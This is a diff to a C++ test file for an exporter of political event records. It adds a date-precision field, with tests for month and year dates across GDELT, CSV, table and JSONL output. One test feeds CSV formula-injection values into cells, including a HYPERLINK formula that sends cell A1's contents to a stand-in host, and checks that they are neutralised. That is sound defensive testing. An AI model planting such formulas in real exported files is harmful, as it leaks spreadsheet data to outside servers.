@@ -23,6 +23,7 @@ const std::string kSentence = "米国と日本は東京で外相会談を開い�
 StoredEvent sample_event() {
   StoredEvent e;
   e.id = 4211, e.doc_id = 17, e.sentence_index = 0, e.event_date = "2024-10-16";
+  e.date_precision = "day";
   e.source = "USAGOV", e.target = "CHNMILNAV", e.source_country = "USA", e.target_country = "CHN";
   e.source_text = "米国", e.target_text = "中国海軍";
   e.code = "036", e.root_code = "03", e.quad_class = 1, e.goldstein = 4.0, e.plover = "CONSULT";
@@ -246,14 +247,32 @@ TEST(ExportGdelt, DatesAtTheEdgesOfTheYear) {
   expect_fields(f, {{7, ""}, {12, "GOV"}, {25, "1"}});
 }
 
+// Issue 14 item 1: a month (先月) or a year (昨年) is kept with its precision;
+// GDELT files it under its first day (the convention docs/store.md states).
+TEST(ExportDates, MonthAndYearDatesReachEveryFormat) {
+  StoredEvent e = sample_event();
+  e.event_date = "2025-02", e.date_precision = "month", e.doc_date = "2025-03-04";
+  auto f = gdelt_fields(e);
+  expect_fields(f, {{1, "20250201"}, {2, "202502"}, {3, "2025"}, {4, "2025.0877"}});  // day 32 / 365
+  auto c = parse_csv_record(render(EventFormat::Csv, e));
+  expect_fields(c, {{1, "2025-02"}, {2, "month"}});
+  EXPECT_NE(render(EventFormat::Table, e).find("2025-02 "), std::string::npos);
+  EXPECT_EQ(json::parse(render(EventFormat::Jsonl, e))["event_date"], "2025-02");
+
+  e.event_date = "2024", e.date_precision = "year";
+  expect_fields(gdelt_fields(e), {{1, "20240101"}, {2, "202401"}, {3, "2024"}, {4, "2024.0027"}});
+  expect_fields(parse_csv_record(render(EventFormat::Csv, e)), {{1, "2024"}, {2, "year"}});
+}
+
 TEST(ExportCsv, HeaderAndQuotingRoundTrip) {
   std::ostringstream head;
   write_events_header(EventFormat::Csv, head);
   auto columns = split(head.str().substr(0, head.str().size() - 1), ',');
-  ASSERT_EQ(columns.size(), 18u);
+  ASSERT_EQ(columns.size(), 19u);
   EXPECT_EQ(columns[0], "id");
-  EXPECT_EQ(columns[9], "goldstein");
-  EXPECT_EQ(columns[17], "sentence");
+  EXPECT_EQ(columns[2], "date_precision");
+  EXPECT_EQ(columns[10], "goldstein");
+  EXPECT_EQ(columns[18], "sentence");
 
   StoredEvent e = sample_event();
   e.sentence = "He said \"yes, 合意\",\nthen left";
@@ -262,10 +281,10 @@ TEST(ExportCsv, HeaderAndQuotingRoundTrip) {
   EXPECT_NE(line.find(",\"say \"\"hi\"\"\","), std::string::npos) << line;
   EXPECT_NE(line.find("\"He said \"\"yes, 合意\"\",\nthen left\""), std::string::npos) << line;
   auto f = parse_csv_record(line);
-  ASSERT_EQ(f.size(), 18u);
-  expect_fields(f, {{0, "4211"}, {1, "2024-10-16"}, {2, "USAGOV"}, {9, "4.0"}, {10, "CONSULT"},
-                    {11, "a,b"}, {12, "two\nlines"}, {13, "say \"hi\""},
-                    {15, "https://example.com/a?x=1"}, {17, e.sentence}});
+  ASSERT_EQ(f.size(), 19u);
+  expect_fields(f, {{0, "4211"}, {1, "2024-10-16"}, {2, "day"}, {3, "USAGOV"}, {10, "4.0"}, {11, "CONSULT"},
+                    {12, "a,b"}, {13, "two\nlines"}, {14, "say \"hi\""},
+                    {16, "https://example.com/a?x=1"}, {18, e.sentence}});
 }
 
 // Issue 13 item 13: a cell that starts with = + - @ (or TAB, CR) is a formula
@@ -280,9 +299,9 @@ TEST(ExportCsv, FormulaCellsAreNeutralised) {
   e.doc_url = "\t=1";
   e.sentence = "\r=2";
   auto f = parse_csv_record(render(EventFormat::Csv, e));
-  ASSERT_EQ(f.size(), 18u);
-  expect_fields(f, {{9, "-2.0"}, {11, "'=HYPERLINK(\"http://x.example/?\"&A1,\"a\")"}, {12, "'+81 3"},
-                    {13, "'-1+1"}, {14, "'@SUM(A1)"}, {15, "'\t=1"}, {17, "'\r=2"}});
+  ASSERT_EQ(f.size(), 19u);
+  expect_fields(f, {{10, "-2.0"}, {12, "'=HYPERLINK(\"http://x.example/?\"&A1,\"a\")"}, {13, "'+81 3"},
+                    {14, "'-1+1"}, {15, "'@SUM(A1)"}, {16, "'\t=1"}, {18, "'\r=2"}});
   EXPECT_EQ(csv_field("-12.5"), "-12.5");
   EXPECT_EQ(csv_field("+3"), "+3");
   EXPECT_EQ(csv_field("-"), "'-");
@@ -321,7 +340,8 @@ TEST(ExportJsonl, EveryFieldAndJapaneseIntact) {
                     {"actor_ids", {"countries:USA", "organizations:CHNMIL"}}, {"num_articles", 3},
                     {"intent", false}, {"added", "2024-10-19T08:30:00Z"}});
   EXPECT_EQ(j["predicate_span"], json::array({0, 0}));  // not known for this event
-  EXPECT_EQ(j.size(), 29u);
+  EXPECT_EQ(j["date_precision"], "day");
+  EXPECT_EQ(j.size(), 30u);
 
   StoredEvent e = sample_event();
   e.plover = "";
